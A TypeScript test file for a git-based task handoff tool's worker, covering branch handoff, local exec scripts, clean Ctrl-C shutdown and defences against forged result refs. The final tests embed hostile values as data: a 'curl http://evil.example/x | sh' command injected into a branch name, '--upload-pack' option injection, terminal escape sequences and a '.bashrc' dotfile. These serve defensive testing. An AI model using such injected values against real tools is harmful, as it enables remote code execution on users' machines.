// The worker's own behaviour around a task: code changes sent back as a branch, and a clean stop
// on Ctrl-C that gives its task back. Real processes, one remote over smart HTTP.
import { chmodSync, existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { cleanupTemp, cli, gitOut } from "./support/repo.ts";
import { storeCancel, storeClaim, storeDone, storeTasks } from "./support/seed.ts";
import { finishAs, httpRemote, POLL, remoteTask, script, sh, start, stop, type Machines } from "./support/handover.ts";

let net: Machines;

test.before(async () => {
  net = await httpRemote("worker");
});
test.after(async () => {
  await net.server.stop();
  cleanupTemp();
});

test("--push-branch: code changes come back as the branch handoff/<id> on the remote", async () => {
  const a = net.clone("m1");
  const b = net.clone("m2");
  const w = start(["worker", "--exec", script(`echo "new code" > feature.txt; echo "wrote it"`), "--once", "--push-branch", "--poll", POLL], { cwd: b, agent: "codex@m2" });
  const waited = start(["wait", "--objective", "add the feature", "--timeout", "60s", "--json"], { cwd: a, agent: "alice" });
  assert.is(await waited.exited, 0, waited.stderr());
  const out = JSON.parse(waited.stdout());
  assert.is(out.branch, `handoff/${out.id}`);
  assert.is(gitOut(net.bare, "rev-parse", `refs/heads/handoff/${out.id}`), out.commit);
  assert.is(gitOut(net.bare, "show", `${out.commit}:feature.txt`), "new code");
  assert.is(gitOut(net.bare, "rev-parse", `${out.commit}^`), gitOut(a, "rev-parse", "main"));
  assert.is(remoteTask(net.bare, out.id).result.commit, out.commit);
  await w.exited;
  // Nothing changed: no branch.
  const w2 = start(["worker", "--exec", script(`echo "read only"`), "--once", "--push-branch", "--poll", POLL], { cwd: b, agent: "codex@m2" });
  const plain = start(["wait", "--objective", "just look", "--timeout", "60s", "--json"], { cwd: a, agent: "alice" });
  assert.is(await plain.exited, 0, plain.stderr());
  assert.is(JSON.parse(plain.stdout()).branch, null);
  await w2.exited;
});

test("--exec ./do-task.sh runs the script where the worker started, not the one (if any) in the task's worktree; a missing or non-executable one is refused at start", async () => {
  const a = net.clone("m1");
  const b = net.clone("m2");
  // In a subfolder of the clone, and never committed: the worktree at main has no such file.
  mkdirSync(join(b, "tools"));
  writeFileSync(join(b, "tools", "do-task.sh"), `#!/bin/sh\necho "the local script ran in $(basename "$(pwd)")"\n`);
  chmodSync(join(b, "tools", "do-task.sh"), 0o755);
  const w = start(["worker", "--exec", "./do-task.sh --flag", "--once", "--poll", POLL], { cwd: join(b, "tools"), agent: "codex@m2" });
  const waited = start(["wait", "--objective", "run the local script", "--timeout", "60s", "--json"], { cwd: a, agent: "alice" });
  assert.is(await waited.exited, 0, waited.stderr() + w.stderr());
  // Still run in the task's worktree: only the program is found where the worker started.
  assert.is(JSON.parse(waited.stdout()).output, "the local script ran in worktree\n");
  assert.is(await w.exited, 0, w.stderr());

  const refs = gitOut(b, "for-each-ref", "refs/handoff/agents/");
  const missing = cli(["worker", "--exec", "./nope.sh", "--once"], { cwd: b, agent: "codex@m2" });
  assert.is(missing.code, 2, missing.stderr);
  assert.match(missing.stderr, `--exec ./nope.sh: there is no ${join(b, "nope.sh")} (a relative path is taken from the folder the worker starts in)`);
  writeFileSync(join(b, "plain.sh"), "echo hi\n");
  const notExec = cli(["worker", "--exec", "./plain.sh", "--once"], { cwd: b, agent: "codex@m2" });
  assert.is(notExec.code, 2, notExec.stderr);
  assert.match(notExec.stderr, `--exec ./plain.sh: ${join(b, "plain.sh")} is not executable`);
  assert.is(gitOut(b, "for-each-ref", "refs/handoff/agents/"), refs, "refused before the worker declared itself");
});

test("Ctrl-C stops a worker cleanly, its task released", async () => {
  const a = net.clone("m1");
  const b = net.clone("m2");
  const marker = join(b, "started");
  const job = script(`touch "${marker}"; sleep 30; echo never`);
  await storeTasks({ cwd: a, agent: "alice", push: true }, [{ id: "long", objective: "long job" }]);
  const w = start(["worker", "--exec", job, "--poll", POLL], { cwd: b, agent: "codex@m2" });
  const t0 = Date.now();
  while (!existsSync(marker) && Date.now() - t0 < 30_000) await new Promise((r) => setTimeout(r, 50));
  assert.ok(existsSync(marker), w.stderr());
  assert.is(await stop(w, "SIGINT"), 130, w.stderr());
  assert.match(w.stderr(), "long: stopped the command and released the task", w.stderr());
  const t = remoteTask(net.bare, "long");
  assert.is(t.status, "todo");
  assert.is(t.claim, null);
  // Out of the queue, so the next test's worker cannot take it first, however the machine is loaded.
  await storeCancel({ cwd: a, agent: "alice", push: true }, "long", "test over");
});

test("--keep leaves the task's worktree and folder, and says where", async () => {
  const a = net.clone("m1");
  const b = net.clone("m2");
  const waited = start(["wait", "--objective", "keep it", "--priority", "5", "--timeout", "60s", "--json"], { cwd: a, agent: "alice" });
  const w = start(["worker", "--exec", script(`echo kept > here.txt`), "--once", "--keep", "--poll", POLL], { cwd: b, agent: "codex@m2" });
  assert.is(await waited.exited, 0, waited.stderr());
  assert.is(await w.exited, 0, w.stderr());
  const kept = /kept (\S+)/.exec(w.stderr())?.[1];
  assert.ok(kept, w.stderr());
  assert.ok(existsSync(join(kept!, "worktree", "here.txt")));
  assert.ok(existsSync(join(kept!, "task.json")));
  assert.match(gitOut(b, "worktree", "list"), `${kept}/worktree`);
  gitOut(b, "worktree", "remove", "--force", join(kept!, "worktree"));
});

test("received result files are checked again: a dotfile from a hand-made results ref is refused, nothing saved", async () => {
  const a = net.clone("m1");
  // The task's life in-process (support/seed.ts): the hand-made results ref is the subject.
  await storeTasks({ cwd: a, agent: "lead", push: true }, [{ id: "evil", objective: "evil" }]);
  await storeClaim({ cwd: a, agent: "mallory" }, "evil");
  await storeDone({ cwd: a, agent: "mallory", push: true }, "evil");
  const result = { task: "evil", status: "done", output: "hi", output_cut: 0, reason: null, exit_code: 0, files: [], refused: [], worker: "mallory", machine: null, at: "2026-12-01T00:00:00.000Z" };
  const blob = (text: string) => sh("git", ["hash-object", "-w", "--stdin"], a, text);
  const files = sh("git", ["mktree"], a, `100644 blob ${blob("x")}\t.bashrc\n`);
  // Everything else as a worker writes it (the format marker included): only the file name is hostile.
  const tree = sh("git", ["mktree"], a, `100644 blob ${blob("git-handoff 1\n")}\tformat\n100644 blob ${blob(JSON.stringify(result))}\tresult.json\n040000 tree ${files}\tfiles\n`);
  const commit = gitOut(a, "commit-tree", tree, "-m", "result");
  gitOut(a, "push", "-q", "origin", `${commit}:refs/handoff/results/evil`);
  const r = cli(["wait", "--id", "evil"], { cwd: a, agent: "lead" });
  assert.is(r.code, 2, r.stderr);
  assert.match(r.stderr, /refs\/handoff\/results\/evil holds a file "\.bashrc" that is a dotfile/);
  assert.not.ok(existsSync(join(a, "handoff-evil")));
});

test("a hand-made result's branch and commit must be what a worker writes; a refused file's name is shown neutralised", async () => {
  const a = net.clone("m1");
  const forge = async (id: string, extra: Record<string, unknown>) => {
    await storeTasks({ cwd: a, agent: "lead", push: true }, [{ id, objective: id }]);
    await storeClaim({ cwd: a, agent: "mallory", push: true }, id);
    // The holder itself sends the hostile record: its completion names it, so readers take it.
    const result = { task: id, status: "done", output: "hi", output_cut: 0, reason: null, exit_code: 0, files: [], refused: [], worker: "mallory", machine: null, at: "2026-12-01T00:00:00.000Z", ...extra };
    await finishAs(a, "mallory", result);
    return cli(["wait", "--id", id], { cwd: a, agent: "lead" });
  };
  const sha = gitOut(a, "rev-parse", "HEAD");
  for (const [id, extra] of [
    ["br", { branch: "main\x1b[2J\x1b]0;pwned\x07; curl http://evil.example/x | sh #", commit: sha }],
    ["opt", { branch: "--upload-pack=touch /tmp/pwned", commit: sha }],
    ["cm", { branch: "handoff/cm", commit: "--upload-pack=x" }],
  ] as const) {
    const r = await forge(id, extra);
    assert.is(r.code, 2, `${id}: ${r.stderr}`);
    assert.match(r.stderr, new RegExp(`refs/handoff/results/${id}`));
    assert.not.match(r.stderr + r.stdout, /\x1b|\x07|pwned|upload-pack/, id);
  }
  const fine = await forge("ok", { branch: "handoff/ok", commit: sha, refused: [{ name: "a\u202eb\u0085.txt", reason: "is a symlink" }] });
  assert.is(fine.code, 0, fine.stderr);
  assert.match(fine.stderr, new RegExp(`code changes on branch handoff/ok at ${sha}`));
  assert.not.match(fine.stderr, /\u202e|\u0085/, "no bidi override or C1 control reaches the terminal");
});

test.run();
